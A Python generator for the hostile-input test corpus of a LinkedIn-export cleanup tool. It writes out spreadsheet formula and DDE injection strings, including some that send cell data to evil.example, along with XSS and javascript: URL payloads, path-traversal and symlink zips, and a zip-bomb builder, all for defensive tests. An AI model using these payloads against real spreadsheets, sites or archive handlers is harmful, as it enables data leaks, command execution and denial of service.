"""The hostile-input corpus of tests/test_hostile.py.

`python tests/data/hostile/make_hostile.py` (re)writes the small files committed next to this
script; `tests/test_hostile.py` checks that they are what `committed()` builds. The big cases
(a 1 MB field, 100,000 columns, zip bombs, 10,000 keywords) are never committed: the tests
build them in tmp_path with the `build_*` functions below.

Every zip here is written byte by byte (`zip_bytes`), because Python's zipfile cannot write
what an attacker can: lying sizes, an encryption flag without encryption, `../` and absolute
member names, symlinks. No real person's data: every name is made up.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).parent
HEADER = ["First Name", "Last Name", "URL", "Email Address", "Company", "Position",
          "Connected On"]
RULES = """[business]
name = "Hostile Test Studio"
scope = "international"
unknown = "review"

[prospect]
keywords = ["realtor", "broker"]

[complementary]
keywords = ["copywriter", "seo"]

[competitor]
keywords = ["web developer", "web designer"]
"""

# Text that Excel, LibreOffice or Google Sheets would run as a formula or a DDE command if a
# writer let it through as anything but a string.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-1+1|cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")",
    "\t=1+1",
    "\r=2+2",
    "'=3+3",
    "=",
    "-",
]
# Text that would become markup, script or a link if a writer did not escape it.
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    '<img src=x onerror="alert(3)">',
    '"><svg onload=alert(4)>',
    "' onmouseover='alert(5)",
    "<!--",
    "<![CDATA[ ]]>",
    "{{ 7*7 }}{% raw %}",
    "&lt;b&gt;entities stay literal&lt;/b&gt; &amp;",
    "</textarea></title></style><iframe srcdoc='<script>alert(6)</script>'>",
    '<a href="javascript:alert(7)">click</a>',
    "\u2028\u2029</script>",
]
# The URL column: only an https LinkedIn profile may ever become a link.
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(2)",
    "java\tscript:alert(3)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(5)</script>",
    "vbscript:msgbox(6)",
    'https://www.linkedin.com/in/x" onmouseover="alert(7)',
    "https://www.linkedin.com/in/y'><script>alert(8)</script>",
    "https://evil.example/in/z",
    "https://www.linkedin.com.evil.example/in/z",
    "//evil.example/in/z",
    "https://www.linkedin.com/in/ok-person",
]


def _quoted(field: str) -> str:
    # csv.writer leaves a lone CR unquoted when lines end in LF; LinkedIn and Excel quote it.
    if any(c in field for c in ',"\r\n'):
        return '"' + field.replace('"', '""') + '"'
    return field


def csv_text(rows: Sequence[Sequence[str]], header: Sequence[str] = HEADER,
             eol: str = "\n") -> str:
    """Rows as CSV text the way LinkedIn quotes them (only where needed)."""
    return "".join(",".join(map(_quoted, row)) + eol for row in [header, *rows])


# ---------------------------------------------------------------------------- small CSV cases

def formula_rows() -> list[list[str]]:
    """Every formula in every column (a diagonal walk), plus plain rows around them."""
    rows = []
    for i in range(len(FORMULAS)):
        rows.append([FORMULAS[(i + j) % len(FORMULAS)] for j in range(len(HEADER))])
    rows.append(["Ada", "Plain", "https://www.linkedin.com/in/ada-plain", "", "=Acme()",
                 "+Web Developer", "05 Mar 2024"])
    return rows


def markup_rows() -> list[list[str]]:
    """Markup in every text column, hostile URLs, and rows tagged for each worklist."""
    rows = []
    for i, url in enumerate(URLS):
        payload = MARKUP[i % len(MARKUP)]
        other = MARKUP[(i + 5) % len(MARKUP)]
        # Alternate unknown and competitor (the Remove list, also rendered as a static table).
        position = f"Web Developer {other}" if i % 2 == 1 else other
        rows.append([payload, other, url, f"{payload}@example.com", payload, position,
                     f"0{1 + i % 9} Mar 2024"])
    rows.append(['Quinn "The <Quote>"', "O'Attr", "https://www.linkedin.com/in/quinn-o-attr",
                 "", 'Acme "><b>', "Realtor", "06 Mar 2024"])
    # An unreadable date is quoted in a note, which the report shows as text.
    rows.append(["Dora", "Date", "", "", "Acme", "Owner", "<script>alert('date')</script>"])
    return rows


def previous_month(rows: list[list[str]], gone: list[str]) -> list[list[str]]:
    """Last month's export of the same people: the last three not yet connected, the first
    four in another position, and one person since gone. The report's list of changes then
    shows hostile text as new, changed and gone."""
    before = [list(row) for row in rows[:-3]]
    for row in before[:4]:
        row[5] = "Old Position"
    return [*before, gone]


#: Enrichment facts for two of the markup rows: hostile Location, Industry and Headline.
ENRICHMENT = [
    ["LinkedIn URL", "Location", "Industry", "Headline"],
    ["https://www.linkedin.com/in/ok-person", "<script>alert('loc')</script>",
     "=cmd|' /C calc'!A0", "<img src=x onerror=alert('head')> Copywriter"],
    ["https://www.linkedin.com/in/quinn-o-attr", '=HYPERLINK("http://evil.example","x")',
     "<b>Industry</b>", ""],
]


def formula_previous() -> list[list[str]]:
    return previous_month(formula_rows(), ['=HYPERLINK("http://evil.example","gone")',
                                           "@Gone", "", "", "+Gone Co", "-Gone", "01 Jan 2020"])


def markup_previous() -> list[list[str]]:
    return previous_month(markup_rows(), ["<svg onload=alert('gone')>", "Gone",
                                          "https://www.linkedin.com/in/gone-person", "",
                                          "<b>Gone Co</b>", "Web Developer", "01 Jan 2020"])


def nul_rows() -> bytes:
    text = csv_text([
        ["Ada", "Example", "https://www.linkedin.com/in/ada-nul", "", "Acme", "Realtor",
         "05 Mar 2024"],
        ["Nul\x00Name", "Zero\x00", "", "", "Co\x00\x00mpany", "Web\x00Developer",
         "05 Mar 2024"],
        ["Bob", "Tail", "", "", "Acme", "Broker\x00", "04 Mar 2024"],
    ])
    return text.encode("utf-8")


def invalid_utf8() -> bytes:
    good = csv_text([
        ["José", "Müller", "https://www.linkedin.com/in/jose-muller", "", "Müller Immobilien",
         "Créatrice de sites web", "05 Mar 2024"],
        ["BROKEN1", "X", "", "", "Acme", "Broker", "04 Mar 2024"],
        ["Zoë", "Nguyen", "", "", "Seoul Bakery", "Owner", "03 Mar 2024"],
        ["BROKEN2", "Y", "", "", "Acme", "Realtor", "02 Mar 2024"],
    ]).encode("utf-8")
    # A stray Latin-1 byte, a lone continuation byte and a truncated sequence.
    return good.replace(b"BROKEN1", b"Bad\xffName").replace(b"BROKEN2", b"Cut\xc3 \x80end")


def mixed_line_endings() -> bytes:
    notes = ('Notes:\r\n"When exporting your connection data, you may notice that some of the '
             'email addresses are missing."\r\n\r\n')
    lines = [
        ("First Name,Last Name,URL,Email Address,Company,Position,Connected On", "\r\n"),
        ("Ada,Crlf,https://www.linkedin.com/in/ada-crlf,,Acme,Realtor,05 Mar 2024", "\r\n"),
        ("Ben,Lf,https://www.linkedin.com/in/ben-lf,,Acme,Broker,04 Mar 2024", "\n"),
        ("Cy,Cr,https://www.linkedin.com/in/cy-cr,,Acme,Copywriter,03 Mar 2024", "\r"),
        ('"Di\r\nMultiline","Quoted\nLf",,,"Acme\rCo",Web Developer,02 Mar 2024', "\n"),
        ("Eve,Last,,,Acme,Seo,01 Mar 2024", ""),  # no newline at the end of the file
    ]
    return (notes + "".join(text + eol for text, eol in lines)).encode("utf-8")


def unbalanced_quote_eof() -> bytes:
    return (b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
            b"Ada,Example,https://www.linkedin.com/in/ada-example,,Acme,Realtor,05 Mar 2024\n"
            b'Ben,"Open,https://www.linkedin.com/in/ben-open,,Acme,Broker,04 Mar 2024\n'
            b"Cy,Lost,https://www.linkedin.com/in/cy-lost,,Acme,Realtor,03 Mar 2024\n"
            b"Di,Lost,https://www.linkedin.com/in/di-lost,,Acme,Realtor,02 Mar 2024\n"
            )


def unbalanced_quote_mid() -> bytes:
    return (b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
            b"Ada,Example,https://www.linkedin.com/in/ada-example,,Acme,Realtor,05 Mar 2024\n"
            b'Ben,"Open,https://www.linkedin.com/in/ben-open,,Acme,Broker,04 Mar 2024\n'
            b'Cy,Closes",https://www.linkedin.com/in/cy-closes,,Acme,Realtor,03 Mar 2024\n'
            b"Di,After,https://www.linkedin.com/in/di-after,,Acme,Realtor,02 Mar 2024\n"
            )


def stray_quotes() -> bytes:
    return (b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
            b'Ada,O"Neil,https://www.linkedin.com/in/ada-oneil,,5" Screens,Realtor,05 Mar 2024\n'
            b'Ben,Mid"dle"Quotes,,,Acme,Broker",04 Mar 2024\n'
            )


# ---------------------------------------------------------------------------- zips

@dataclass(frozen=True)
class Entry:
    """One zip member as an attacker writes it: every header field can lie."""

    name: str
    data: bytes  # the member's bytes as stored (already compressed when method is 8)
    method: int = 0  # 0 stored, 8 deflated
    size: int | None = None  # declared uncompressed size (default: the real one)
    crc: int | None = None  # declared CRC-32 (default: of `plain`)
    plain: bytes | None = None  # the uncompressed bytes, for the CRC (default: data)
    flags: int = 0
    external_attr: int = 0o100644 << 16


def deflate(data: bytes) -> bytes:
    """Raw deflate, as a zip member holds it."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def member(name: str, plain: bytes, **kw: int) -> Entry:
    """A deflated member with honest headers."""
    return Entry(name=name, data=deflate(plain), method=8, plain=plain, **kw)


def zip_bytes(entries: Sequence[Entry]) -> bytes:
    """A zip archive written field by field, exactly as the entries declare."""
    out = bytearray()
    central = bytearray()
    dos_time, dos_date = 0, (2026 - 1980) << 9 | 11 << 5 | 25
    for e in entries:
        name = e.name.encode("utf-8")
        flags = e.flags | (0x800 if not e.name.isascii() else 0)
        plain = e.plain if e.plain is not None else e.data
        crc = e.crc if e.crc is not None else zlib.crc32(plain)
        size = e.size if e.size is not None else len(plain)
        offset = len(out)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, flags, e.method, dos_time,
                           dos_date, crc, len(e.data), size, len(name), 0)
        out += name + e.data
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 3 << 8 | 20, 20, flags,
                               e.method, dos_time, dos_date, crc, len(e.data), size,
                               len(name), 0, 0, 0, 0, e.external_attr, offset)
        central += name
    cd_offset = len(out)
    out += central
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                       len(central), cd_offset, 0)
    return bytes(out)


def connections(*people: tuple[str, str]) -> bytes:
    """A Connections.csv holding these (first, last) people, all realtors."""
    rows = [[first, last, f"https://www.linkedin.com/in/{first.lower()}-{last.lower()}", "",
             "Acme", "Realtor", "05 Mar 2024"] for first, last in people]
    return csv_text(rows).encode("utf-8")


#: Member names that would land outside the folder if the zip were ever extracted.
ESCAPES = {
    "../../../../../../../../tmp/linkedin-cleanup-hostile-escape.txt": b"escaped\n",
    "/tmp/linkedin-cleanup-hostile-absolute.txt": b"absolute\n",
    "..\\..\\..\\linkedin-cleanup-hostile-backslash.txt": b"backslash\n",
    "C:/Windows/Temp/linkedin-cleanup-hostile-drive.txt": b"drive\n",
}


def zip_traversal() -> bytes:
    entries = [member(name, data) for name, data in ESCAPES.items()]
    entries.append(member("../../Basic_LinkedInDataExport/Connections.csv",
                          connections(("Tra", "Versal"), ("Dot", "Dot"))))
    # A symlink member: read in place it is only the text of its target, never the target.
    entries.append(member("messages.csv", b"/etc/passwd", external_attr=0o120777 << 16))
    return zip_bytes(entries)


def zip_two_connections() -> bytes:
    return zip_bytes([
        member("Old Export/backup/Connections.csv", connections(("Old", "Backup"))),
        member("Sub/connections.CSV", connections(("Sub", "Folder"))),
        member("Connections.csv", connections(("Root", "One"), ("Root", "Two"))),
    ])


def zip_same_name_after_cleaning() -> bytes:
    """`../Connections.csv` and `Connections.csv` are the same lookup key once cleaned."""
    return zip_bytes([
        member("../Connections.csv", connections(("Dotdot", "Sneaky"))),
        member("Connections.csv", connections(("Root", "Plain"))),
    ])


def zip_encrypted() -> bytes:
    """The encryption flag on every member (Python cannot write real ZipCrypto)."""
    return zip_bytes([member("Connections.csv", connections(("Crypt", "Flag")), flags=0x1),
                      member("messages.csv", b"CONVERSATION ID,FROM\n", flags=0x1)])


def not_a_zip() -> bytes:
    return b"PK\x03\x04" + bytes(range(256)) * 4


# ---------------------------------------------------------------------------- the committed set

def committed() -> dict[str, bytes]:
    """Every committed file of the corpus, by name."""
    return {
        "formula_injection.csv": csv_text(formula_rows()).encode("utf-8"),
        "formula_injection_previous.csv": csv_text(formula_previous()).encode("utf-8"),
        "markup_injection.csv": csv_text(markup_rows()).encode("utf-8"),
        "markup_injection_previous.csv": csv_text(markup_previous()).encode("utf-8"),
        "markup_enrichment.csv": csv_text(ENRICHMENT[1:], header=ENRICHMENT[0]).encode(),
        "nul_bytes.csv": nul_rows(),
        "invalid_utf8.csv": invalid_utf8(),
        "mixed_line_endings.csv": mixed_line_endings(),
        "unbalanced_quote_eof.csv": unbalanced_quote_eof(),
        "unbalanced_quote_mid.csv": unbalanced_quote_mid(),
        "stray_quotes.csv": stray_quotes(),
        "zip_traversal.zip": zip_traversal(),
        "zip_two_connections.zip": zip_two_connections(),
        "zip_same_name_after_cleaning.zip": zip_same_name_after_cleaning(),
        "zip_encrypted.zip": zip_encrypted(),
        "not_a_zip.zip": not_a_zip(),
        "rules.toml": RULES.encode("utf-8"),
    }


# ---------------------------------------------------------------------- built at test time

def build_big_field(path: Path, chars: int = 1_000_000) -> str:
    """A Connections.csv with one Position of `chars` characters; returns that Position."""
    position = "Realtor " + "x" * (chars - len("Realtor "))
    rows = [["Big", "Field", "https://www.linkedin.com/in/big-field", "", "Acme", position,
             "05 Mar 2024"],
            ["Small", "Field", "", "", "Acme", "Broker", "04 Mar 2024"]]
    path.write_text(csv_text(rows), encoding="utf-8")
    return position


def build_wide_header(path: Path, columns: int = 100_000) -> None:
    """A header of LinkedIn's 7 columns and `columns` more, in one line."""
    header = HEADER + [f"Extra {i}" for i in range(columns)]
    path.write_text(csv_text([["Ada", "Wide", "", "", "Acme", "Realtor", "05 Mar 2024"]],
                             header=header), encoding="utf-8")


def build_wide_row(path: Path, columns: int = 100_000) -> None:
    """A data row of `columns` fields under LinkedIn's 7-column header."""
    row = ["Ada", "Wide", "", "", "Acme", "Realtor", "05 Mar 2024"] + ["x"] * columns
    path.write_text(csv_text([row]), encoding="utf-8")


def bomb_stream(megabytes: int) -> tuple[bytes, int]:
    """A raw deflate stream inflating to `megabytes` MiB of spaces, built in milliseconds:
    one fully flushed block repeated (each block starts afresh, so copies chain)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b" " * (1 << 20)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    assert block == again, "a fully flushed block must not depend on the one before"
    return block * megabytes + c.flush(zlib.Z_FINISH), megabytes << 20


def build_zip_bomb(path: Path, megabytes: int = 2048, declared: int | None = None) -> int:
    """A zip whose Connections.csv inflates to `megabytes` MiB.

    With `declared`, both the central directory and the local header lie: they give that
    uncompressed size instead of the real one. Returns the real inflated size.
    """
    stream, real = bomb_stream(megabytes)
    path.write_bytes(zip_bytes([Entry(name="Connections.csv", data=stream, method=8,
                                      size=declared if declared is not None else real,
                                      crc=0x1BADB002)]))
    return real


def build_keyword_rules(path: Path, count: int = 10_000) -> list[str]:
    """A rules.toml whose [prospect] lists `count` distinct keywords; returns them."""
    words = [f"kw{i:05d}x{chr(97 + i % 26)}" for i in range(count)]
    body = ",\n".join(f'  "{w}"' for w in words)
    path.write_text('[business]\nname = "Many Keywords"\nscope = "international"\n\n'
                    f"[prospect]\nkeywords = [\n{body},\n]\n\n"
                    '[competitor]\nkeywords = ["web developer"]\n', encoding="utf-8")
    return words


def build_large_export(path: Path, rows: int) -> None:
    """A plain, valid Connections.csv of `rows` made-up people (for the interrupted run)."""
    positions = ["Realtor", "Web Developer", "Copywriter", "Owner", "SEO Consultant"]
    lines = [["Person", f"N{i:06d}", f"https://www.linkedin.com/in/person-{i:06d}", "",
              f"Company {i % 997}", positions[i % len(positions)],
              f"{1 + i % 28:02d} Mar {2010 + i % 16}"] for i in range(rows)]
    path.write_text(csv_text(lines), encoding="utf-8")


def main() -> None:
    for name, data in committed().items():
        (HERE / name).write_bytes(data)
        print(f"wrote {name} ({len(data):,} bytes)")


if __name__ == "__main__":
    main()
